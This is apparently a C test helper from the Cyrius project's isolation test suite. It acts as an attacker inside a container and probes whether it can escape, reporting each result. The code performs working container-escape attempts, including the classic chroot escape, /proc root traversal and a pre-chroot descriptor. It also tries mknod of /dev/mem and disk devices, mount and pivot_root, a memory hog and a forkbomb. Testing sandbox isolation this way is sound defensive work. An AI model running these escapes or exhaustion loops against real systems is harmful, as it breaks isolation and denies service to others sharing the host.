/* An attacker inside a container: tries to reach what belongs to another
 * container or to the host. Run by boot/tests/isolation.rs in Cyrius only
 * (on Linux most of these tricks would succeed against a plain chroot).
 *
 *   isolation abstract-listen NAME SECS   bind+listen an abstract AF_UNIX name, report a connection
 *   isolation abstract-connect NAME       try to connect to it
 *   isolation unix-listen PATH SECS       serve a socket file (accepts up to 8 connections)
 *   isolation unix-connect PATH           connect to a socket file by path
 *   isolation kill PID...                 kill(PID, 0) for each
 *   isolation escape MARKER...            every path trick; is any MARKER reachable?
 *   isolation devices                     mknod of disk devices, what /dev holds
 *   isolation mounts                      mount/umount2/pivot_root with the capabilities at hand
 *   isolation hog MB                      allocate and touch memory until failure
 *   isolation forkbomb N                  fork (children wait) until failure
 * Every line is "what: result"; results never name host paths.
 */
#include "difftest.h"

#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static const char *err(int r) {
    return r >= 0 ? "ok" : ename(errno);
}

static socklen_t abstract_addr(struct sockaddr_un *a, const char *name) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    size_t n = strlen(name);
    if (n > sizeof a->sun_path - 1) n = sizeof a->sun_path - 1;
    memcpy(a->sun_path + 1, name, n);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
}

static int abstract_listen(const char *name, int secs) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a;
    socklen_t len = abstract_addr(&a, name);
    int r = bind(s, (struct sockaddr *)&a, len);
    say("bind @%s: %s", name, err(r));
    if (r < 0) return 1;
    listen(s, 4);
    say("listening @%s", name);
    int accepted = 0;
    for (int i = 0; i < 8; i++) {
        struct pollfd p = { s, POLLIN, 0 };
        if (poll(&p, 1, secs * 1000) != 1) break;
        close(accept(s, 0, 0));
        accepted++;
    }
    say("@%s: %d connections", name, accepted);
    return 0;
}

static int abstract_connect(const char *name) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a;
    socklen_t len = abstract_addr(&a, name);
    int r = connect(s, (struct sockaddr *)&a, len);
    say("connect @%s: %s", name, err(r));
    if (r == 0) (void)!write(s, "hello", 5);
    return 0;
}

static int unix_listen(const char *path, int secs) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    unlink(path);
    int r = bind(s, (struct sockaddr *)&a, sizeof a);
    say("bind %s: %s", path, err(r));
    if (r < 0) return 1;
    listen(s, 4);
    for (int i = 0; i < 8; i++) {
        struct pollfd p = { s, POLLIN, 0 };
        if (poll(&p, 1, secs * 1000) != 1) break;
        close(accept(s, 0, 0));
    }
    return 0;
}

static int unix_connect(const char *path) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    say("connect %s: %s", path, err(r));
    return 0;
}

static int kill_each(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        int pid = atoi(argv[i]);
        say("kill %d: %s", pid, err(kill(pid, 0)));
    }
    return 0;
}

/* Markers reachable from `base` by relative `prefix` (or absolute when base < 0). */
static char **markers;
static int nmarkers;
static void probe(const char *trick, int base, const char *prefix) {
    int seen = 0;
    for (int i = 0; i < nmarkers; i++) {
        char path[512];
        const char *m = markers[i][0] == '/' ? markers[i] + 1 : markers[i];
        snprintf(path, sizeof path, "%s%s", prefix, m);
        struct stat st;
        int r = base >= 0 ? fstatat(base, path, &st, 0) : stat(path, &st);
        if (r == 0) {
            say("%s: REACHED marker %d", trick, i);
            seen = 1;
        }
    }
    if (!seen) say("%s: no marker reachable", trick);
}

static int escape(int argc, char **argv) {
    markers = argv;
    nmarkers = argc;
    probe("plain absolute paths", -1, "/");
    probe("dotdot above /", -1, "/../../../../../");
    mkdir("/tmp/esc", 0755);
    unlink("/tmp/esc/up");
    say("symlink to /../..: %s", err(symlink("/../../../..", "/tmp/esc/up")));
    probe("through an absolute symlink", -1, "/tmp/esc/up/");
    probe("/proc/self/root", -1, "/proc/self/root/../../");
    probe("/proc/1/root", -1, "/proc/1/root/../../");
    probe("/proc/self/cwd", -1, "/proc/self/cwd/../../../../");
    /* The fd directories of every visible process: where do they point? */
    DIR *d = opendir("/proc");
    int pids = 0, outside = 0;
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        pids++;
        char dir[300];
        snprintf(dir, sizeof dir, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(dir);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            char link[600], target[512];
            snprintf(link, sizeof link, "%s/%s", dir, f->d_name);
            ssize_t n = readlink(link, target, sizeof target - 1);
            if (n <= 0) continue;
            target[n] = 0;
            for (int i = 0; i < nmarkers; i++)
                if (strcmp(target, markers[i]) == 0) outside++;
        }
        if (fds) closedir(fds);
    }
    if (d) closedir(d);
    say("/proc lists %d processes, %d descriptors naming a marker", pids, outside);
    /* A directory descriptor from before a chroot, and the classic escape. */
    int before = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/esc/jail", 0755);
    mkdir("/tmp/esc/jail/deeper", 0755);
    int r = chroot("/tmp/esc/jail");
    say("chroot into a subdirectory: %s", err(r));
    if (r == 0) {
        probe("openat with a descriptor from before chroot", before, "../../../");
        probe("inside the chroot", -1, "/../../");
        /* cwd is still outside the new root: climb, then chroot(".") */
        for (int i = 0; i < 64; i++) (void)!chdir("..");
        say("chroot(\".\") after climbing: %s", err(chroot(".")));
        struct stat st;
        say("after the escape the container's own /t is %s", stat("/t", &st) == 0 ? "there" : "gone");
        probe("after the classic chroot escape", -1, "/");
        probe("after the escape, dotdot", -1, "/../../../");
    }
    close(before);
    return 0;
}

static int devices(void) {
    static const struct { const char *name; int block; int major, minor; } nodes[] = {
        { "vda", 1, 254, 0 }, { "sda", 1, 8, 0 }, { "mem", 0, 1, 1 }, { "kmsg", 0, 1, 11 }, { "null2", 0, 1, 3 },
    };
    mkdir("/tmp/dev", 0755);
    for (unsigned i = 0; i < sizeof nodes / sizeof nodes[0]; i++) {
        char path[64];
        snprintf(path, sizeof path, "/tmp/dev/%s", nodes[i].name);
        unlink(path);
        int r = mknod(path, (nodes[i].block ? S_IFBLK : S_IFCHR) | 0666, makedev(nodes[i].major, nodes[i].minor));
        say("mknod %s %d:%d: %s", nodes[i].name, nodes[i].major, nodes[i].minor, err(r));
        if (r == 0) {
            int fd = open(path, O_RDWR);
            say("open %s: %s", nodes[i].name, err(fd));
            if (fd >= 0) close(fd);
        }
    }
    DIR *d = opendir("/dev");
    struct dirent *e;
    char names[1024] = "";
    while (d && (e = readdir(d)))
        if (e->d_name[0] != '.') snprintf(names + strlen(names), sizeof names - strlen(names), " %s", e->d_name);
    if (d) closedir(d);
    say("/dev:%s", names);
    return 0;
}

static int mounts(void) {
    mkdir("/tmp/m", 0755);
    say("mount tmpfs: %s", err(mount("none", "/tmp/m", "tmpfs", 0, NULL)));
    say("mount proc: %s", err(mount("proc", "/tmp/m", "proc", 0, NULL)));
    say("bind /: %s", err(mount("/", "/tmp/m", NULL, MS_BIND, NULL)));
    say("umount /proc: %s", err(umount2("/proc", MNT_DETACH)));
    say("pivot_root: %s", err((int)syscall(SYS_pivot_root, "/tmp", "/tmp/m")));
    say("sethostname: %s", err(sethostname("evil", 4)));
    return 0;
}

static int hog(long mb) {
    long got = 0;
    for (; got < mb; got++) {
        char *p = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) break;
        for (long i = 0; i < 1 << 20; i += 4096) p[i] = 1;
    }
    say("hog: %ld MiB of %ld before failing", got, mb);
    return 0;
}

static int forkbomb(long n) {
    long made = 0;
    int e = 0;
    for (; made < n; made++) {
        pid_t pid = fork();
        if (pid == 0) {
            sleep(3);
            _exit(0);
        }
        if (pid < 0) {
            e = errno;
            break;
        }
    }
    say("forkbomb: %ld children, then %s", made, e ? ename(e) : "stopped");
    while (wait(NULL) > 0) {}
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1];
    if (!strcmp(cmd, "abstract-listen") && argc > 3) return abstract_listen(argv[2], atoi(argv[3]));
    if (!strcmp(cmd, "abstract-connect") && argc > 2) return abstract_connect(argv[2]);
    if (!strcmp(cmd, "unix-listen") && argc > 3) return unix_listen(argv[2], atoi(argv[3]));
    if (!strcmp(cmd, "unix-connect") && argc > 2) return unix_connect(argv[2]);
    if (!strcmp(cmd, "kill")) return kill_each(argc - 2, argv + 2);
    if (!strcmp(cmd, "escape")) return escape(argc - 2, argv + 2);
    if (!strcmp(cmd, "devices")) return devices();
    if (!strcmp(cmd, "mounts")) return mounts();
    if (!strcmp(cmd, "hog") && argc > 2) return hog(atol(argv[2]));
    if (!strcmp(cmd, "forkbomb") && argc > 2) return forkbomb(atol(argv[2]));
    say("unknown command %s", cmd);
    return 2;
}
